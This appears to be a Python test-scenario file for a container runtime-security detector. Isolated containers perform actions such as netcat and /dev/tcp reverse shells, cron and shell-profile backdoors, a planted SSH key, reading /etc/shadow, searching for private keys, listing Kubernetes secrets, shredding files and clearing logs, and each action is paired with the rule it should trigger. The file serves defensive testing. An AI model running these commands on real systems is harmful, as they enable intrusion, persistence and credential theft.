"""The scenarios: each a real container that does one thing, and the rules it must raise (or none).

`expect` names built-in rules by their file stem and detectors by their key.
Attack scenarios may raise more than they expect (a root container is also "run
as root"); benign scenarios must raise nothing at all. Every container runs
with network mode `none`: listeners, scans and "pools" stay on its own loopback.

The FLEETING scenarios hold nothing alive: each action is a process that ends in
milliseconds or a file removed as soon as it is made, as a real attack or a test
tool does it; several run the action as the container's own command, the way
runtime-security test generators do. (Debian's busybox shell runs some applets,
`find` and `base64` among them, inside the shell without an exec, which no exec
monitor can see; where a scenario's shell runs one, it names the program by its
path, which makes the shell exec it, as any other distribution's shell would.)
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

# A well-behaved container: not root, limited, from a pinned tag. Benign ones all are.
CALM: dict[str, Any] = {"user": "1000", "mem_limit": "64m", "nano_cpus": 1_000_000_000, "pids_limit": 64}
HOLD = "sleep 120"  # keep the container alive while the suite watches


@dataclass(frozen=True)
class Scenario:
    name: str
    script: str  # run by `sh -c` as the container's command
    expect: frozenset[str] = frozenset()
    attack: bool = True
    run: dict[str, Any] = field(default_factory=lambda: dict(CALM))
    image: str = "base"  # "base", "tools" (with /app and memfd-exec) or "latest"
    # run from the image under a name of its own: the anomaly model (one per image name) learns only this workload
    own_image: bool = False
    execs: tuple[dict[str, Any], ...] = ()  # docker exec after `exec_delay` s: {"cmd": [...], "user": .., "tty": .., "privileged": ..}
    http_requests: int = 0  # GET / on 127.0.0.1:8080 inside the container's network namespace, from the host
    command: tuple[str, ...] = ()  # run as the container's command instead of `sh -c script`
    fleeting: bool = False  # no action is held alive (see the module's docstring)
    # a gap of the product, said out loud: a miss is reported as a known gap, not counted in recall
    known_gap: str = ""

    @property
    def slug(self) -> str:
        return "".join(c if c.isalnum() else "-" for c in self.name.lower()).strip("-")[:60]

    @property
    def kind(self) -> str:
        return "attack" if self.attack else "benign"


def _s(name: str, script: str, *expect: str, **kwargs) -> Scenario:
    return Scenario(name, script, frozenset(expect), **kwargs)


def _benign(name: str, script: str, **kwargs) -> Scenario:
    return Scenario(name, script, frozenset(), attack=False, own_image=True, **kwargs)


def _fleeting(name: str, script_or_command: str | tuple[str, ...], *expect: str, **kwargs) -> Scenario:
    if isinstance(script_or_command, tuple):  # no docker-init: its own argv would carry the command line
        kwargs["run"] = {**kwargs.get("run", CALM), "init": False}
        return Scenario(name, "", frozenset(expect), command=script_or_command, fleeting=True, **kwargs)
    return Scenario(name, script_or_command, frozenset(expect), fleeting=True, **kwargs)


ROOT: dict[str, Any] = {}  # as the image says: root, no limits
CGI = ("mkdir -p /tmp/www/cgi-bin && printf '#!/bin/sh\\necho Content-Type: text/plain; echo; id; sleep 60\\n'"
       " > /tmp/www/cgi-bin/run.cgi && chmod +x /tmp/www/cgi-bin/run.cgi")

SCENARIOS: list[Scenario] = [
    # ---- processes
    _s("network tool talks to a server", f"nc -l -p 8080 >/dev/null & sleep 2; sleep 60 | nc 127.0.0.1 8080 & {HOLD}",
       "proc_network_tool"),
    _s("netcat bind shell (-e)", f"sleep 2; nc -ll -p 4444 -e /bin/sh & {HOLD}", "proc_netcat_exec"),
    _s("reverse shell over a socket", f"sleep 300 | nc -l -p 4444 >/dev/null & sleep 2; nc 127.0.0.1 4444 -e /bin/sh & {HOLD}",
       "proc_shell_socket_stdio"),
    _s("bash /dev/tcp reverse shell command", f"sleep 2; sh -c 'sleep 60; : bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' & {HOLD}",
       "proc_dev_tcp_shell"),
    _s("web server spawns a shell (CGI)", f"{CGI}; httpd -f -p 8080 -h /tmp/www & sleep 2; "
       f"wget -q -O /dev/null http://127.0.0.1:8080/cgi-bin/run.cgi & {HOLD}", "proc_shell_from_server"),
    _s("drop and execute a binary", f"sleep 2; mkdir -p /opt/x && cp /bin/busybox /opt/x/busybox && /opt/x/busybox sleep 60 & {HOLD}",
       "proc_dropped_executable", run=ROOT),
    _s("execute from /tmp", f"sleep 2; cp /bin/busybox /tmp/busybox && /tmp/busybox sleep 60 & {HOLD}", "proc_exec_from_tmp"),
    _s("fileless execution from memfd", f"sleep 2; /usr/local/bin/memfd-exec /bin/busybox sleep 60 & {HOLD}",
       "proc_fileless_memfd", image="tools"),
    _s("miner command line with a stratum URL", f"sleep 2; sh -c 'sleep 60' xmrig --url stratum+tcp://127.0.0.1:3333 & {HOLD}",
       "proc_crypto_miner"),
    _s("package manager inside the container", f"sleep 2; mkfifo /tmp/update.rpm; rpm -qp /tmp/update.rpm & {HOLD}", "proc_package_manager"),
    # ---- exec sessions
    _s("terminal shell through docker exec", HOLD, "exec_terminal_shell", execs=({"cmd": ["sh", "-c", "sleep 1"], "tty": True},)),
    _s("exec as root", HOLD, "exec_as_root", execs=({"cmd": ["id"], "user": "root"},)),
    _s("privileged exec", HOLD, "exec_privileged", execs=({"cmd": ["id"], "privileged": True},)),
    _s("package manager through docker exec", HOLD, "exec_package_manager",
       execs=({"cmd": ["sh", "-c", "apk add curl || true"]},)),
    # ---- files
    _s("write below /etc and /bin", f"sleep 6; echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd; cp /bin/busybox /bin/.hidden; {HOLD}",
       "file_write_system_dirs", run=ROOT),
    _s("ssh key planted", f"sleep 2; mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys; {HOLD}",
       "file_ssh_authorized_keys", run=ROOT),
    _s("cron job added", f"sleep 2; mkdir -p /etc/crontabs && echo '* * * * * nc 127.0.0.1 4444 -e /bin/sh' > /etc/crontabs/root; {HOLD}",
       "file_cron_modified", run=ROOT),
    _s("shell rc backdoored", f"sleep 2; echo 'nc 127.0.0.1 4444 -e /bin/sh &' >> /root/.profile; {HOLD}",
       "file_shell_rc_modified", run=ROOT),
    _s("symlink to /etc/shadow", f"sleep 2; ln -s /etc/shadow /tmp/.cache-x; {HOLD}", "file_symlink_sensitive"),
    _s("log cleared", f"mkdir -p /var/log && echo 'login root' > /var/log/auth.log; sleep 3; : > /var/log/auth.log; "
       f"sleep 1; rm /var/log/auth.log; {HOLD}", "file_log_clearing", run=ROOT),
    # ---- logs
    _s("port scanner output in the log", f"sleep 1; echo 'Starting Nmap 7.94'; echo 'Nmap scan report for 127.0.0.1'; {HOLD}",
       "log_port_scanner"),
    _s("miner output in the log", f"sleep 1; echo 'use pool stratum+tcp://127.0.0.1:3333 xmrig/6.21'; {HOLD}", "log_crypto_miner"),
    # ---- container configuration (judged at start)
    _s("misconfigured start", HOLD, "container_dangerous_capability", "container_docker_socket", "container_sensitive_mount",
       "container_host_namespace", "container_unconfined_profile", "container_as_root", "container_no_limits",
       run={"cap_add": ["SYS_ADMIN"], "pid_mode": "host", "security_opt": ["seccomp=unconfined"],
            "volumes": {"/var/run/docker.sock": {"bind": "/var/run/docker.sock", "mode": "ro"},
                        "/etc": {"bind": "/host-etc", "mode": "ro"}}}),
    _s("unpinned :latest image", HOLD, "container_latest_image", image="latest"),
    _s("privileged container", HOLD, "container_privileged", run={**CALM, "privileged": True}),
    # ---- stateful detectors
    _s("port scan of 20 ports", "for p in $(seq 9000 9019); do sleep 300 | nc -l -p $p >/dev/null & done; sleep 2; "
       f"for p in $(seq 9000 9019); do sleep 300 | nc 127.0.0.1 $p >/dev/null & done; {HOLD}", "port_scan",
       run={**CALM, "pids_limit": 256}),
    _s("crypto-mining: pool connection and CPU", "sleep 300 | nc -l -p 3333 >/dev/null & sleep 1; sleep 300 | nc 127.0.0.1 3333 >/dev/null & "
       f"sleep 1; while :; do :; done & {HOLD}", "crypto_mining"),
    _s("resource anomaly after a calm baseline", "sleep 15; for i in 1 2 3 4 5 6 7 8; do (while :; do :; done) & done; "
       f"{HOLD}", "resource_anomaly", own_image=True, run={**CALM, "nano_cpus": 2_000_000_000}),
    # ---- benign
    _benign("web server serving and logging requests", "mkdir -p /tmp/www && echo hello > /tmp/www/index.html && "
       f"httpd -f -vv -p 8080 -h /tmp/www & {HOLD}", http_requests=20),
    _benign("job writing its data directory", "mkdir -p /tmp/data; i=0; while [ $i -lt 20 ]; do echo \"row $i\" >> /tmp/data/out.csv; "
       f"i=$((i+1)); sleep 0.2; done; {HOLD}"),
    _benign("build step unpacking and compiling under /app", "cd /app && mkdir -p src && echo 'int main(void){return 0;}' > src/main.c"
       " && tar czf /tmp/src.tgz src && rm -rf src && tar xzf /tmp/src.tgz && mkdir -p build && cat src/main.c > build/main.o"
       f" && cp /bin/busybox build/app && chmod +x build/app; {HOLD}", image="tools"),
    _benign("health check exec", HOLD,
       run={**CALM, "healthcheck": {"test": ["CMD", "true"], "interval": 1_000_000_000, "timeout": 1_000_000_000}}),
    _benign("chatty logger", "i=0; while [ $i -lt 2000 ]; do echo \"$(date) INFO request $i served in 3 ms\"; i=$((i+1)); done; "
       f"{HOLD}"),
    _benign("short CPU burst at start-up", f"i=0; while [ $i -lt 200000 ]; do i=$((i+1)); done; {HOLD}"),

    # ---- fleeting: nothing held alive
    _fleeting("netcat -e that fails at once, as the container's command", ("nc", "127.0.0.1", "1", "-e", "/bin/sh"),
              "proc_netcat_exec"),
    _fleeting("search for private keys, as the container's command", ("find", "/etc", "/root", "-name", "id_rsa*"),
              "proc_credential_search"),
    _fleeting("shred of a file, as the container's command", ("shred", "-u", "/tmp/evidence.log"), "proc_data_destruction"),
    _fleeting("wget downloads a payload to a file", ("wget", "-q", "-O", "/tmp/payload", "http://127.0.0.1:1/payload"),
              "proc_ingress_file_copy"),
    _fleeting("base64 payload piped into a shell", ("sh", "-c", "echo aWQ= | /bin/base64 -d | sh"),
              "proc_payload_decoding"),
    _fleeting("kubectl run in a container", ("kubectl", "get", "secrets", "-A"), "proc_kubernetes_client", image="tools"),
    _fleeting("miner with a stratum URL that exits at once", ("minerd", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "w"),
              "proc_crypto_miner", image="tools"),
    _fleeting("packet socket opened (arping)", ("arping", "-c", "1", "-w", "1", "-I", "lo", "127.0.0.1"),
              "net_packet_socket", run=ROOT),
    _fleeting("shebang script named like a miner run from /tmp",
              f"sleep 2; printf '#!/bin/sh\\nexit 0\\n' > /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig; {HOLD}",
              "proc_crypto_miner", "proc_exec_from_tmp", "proc_dropped_executable"),
    _fleeting("web server spawns a short shell (CGI)", "mkdir -p /tmp/www/cgi-bin && printf '#!/bin/sh\\necho; id\\n'"
              " > /tmp/www/cgi-bin/id.cgi && chmod +x /tmp/www/cgi-bin/id.cgi && httpd -p 8080 -h /tmp/www; sleep 2; "
              f"wget -q -O /dev/null http://127.0.0.1:8080/cgi-bin/id.cgi; {HOLD}", "proc_shell_from_server"),
    _fleeting("binary run from /dev/shm (noexec: the attempt)", f"sleep 2; cp /bin/busybox /dev/shm/x; /dev/shm/x true; "
              f"rm -f /dev/shm/x; {HOLD}", "proc_exec_from_tmp"),
    _fleeting("dropped binary run once", f"sleep 2; mkdir -p /opt && cp /bin/busybox /opt/tool && /opt/tool true; {HOLD}",
              "proc_dropped_executable", run=ROOT),
    _fleeting("docker exec whose shell becomes sleep at once", HOLD, "proc_payload_decoding",
              execs=({"cmd": ["sh", "-c", "echo aWQ= | base64 -d >/dev/null; exec sleep 5"]},)),
    _fleeting("symlink to /etc/shadow made and removed at once", f"sleep 2; ln -s /etc/shadow /tmp/.k && rm /tmp/.k; {HOLD}",
              "file_symlink_sensitive"),
    _fleeting("setuid bit set and the file removed at once", f"sleep 2; cp /bin/busybox /tmp/.su && chmod u+s /tmp/.su && "
              f"rm /tmp/.su; {HOLD}", "file_setuid_bit", run=ROOT),
    _fleeting("hidden file in / made and removed at once", f"sleep 2; touch /.x && rm /.x; {HOLD}",
              "file_hidden_in_system_dir", run=ROOT),
    # overlayfs makes the upper layer's etc/ only with this write, so inotify watches it too late to see .t:
    # what is seen is etc/ copied up and empty again, its time changed since
    _fleeting("file under /etc written and removed at once", f"sleep 6; echo x > /etc/.t && rm /etc/.t; {HOLD}",
              "file_write_system_dirs", run=ROOT),
    _fleeting("shell history removed", f"mkdir -p /root && echo 'nc -e /bin/sh' > /root/.ash_history; sleep 3; "
              f"rm /root/.ash_history; {HOLD}", "file_shell_history_cleared", run=ROOT),

    # ---- benign work on the very paths and programs the rules watch
    _benign("cron-like task every second", "while :; do /bin/date > /tmp/heartbeat; "
            "/bin/find /tmp -name '*.tmp' -mmin +60 -delete; sleep 1; done"),
    _benign("health check with wget to localhost", "mkdir -p /tmp/www && echo ok > /tmp/www/health && httpd -p 8080 -h /tmp/www; "
            "while :; do wget -q -O /dev/null http://127.0.0.1:8080/health; wget -q -O - http://localhost:8080/health "
            ">/dev/null; sleep 1; done"),
    _benign("entrypoint writes its own configuration under /etc", "printf 'port=8080\\nworkers=2\\n' > /etc/myapp/app.conf"
            f" && ln -sf /etc/myapp/app.conf /etc/myapp/current.conf; {HOLD}", image="tools"),
    _benign("application rotates and compresses its own logs", "i=0; while [ $i -lt 3 ]; do echo \"request $i\" >> "
            "/var/log/app/app.log; sleep 2; mv /var/log/app/app.log /var/log/app/app.log.1; "
            f"gzip -f /var/log/app/app.log.1; i=$((i+1)); done; {HOLD}", image="tools"),
]
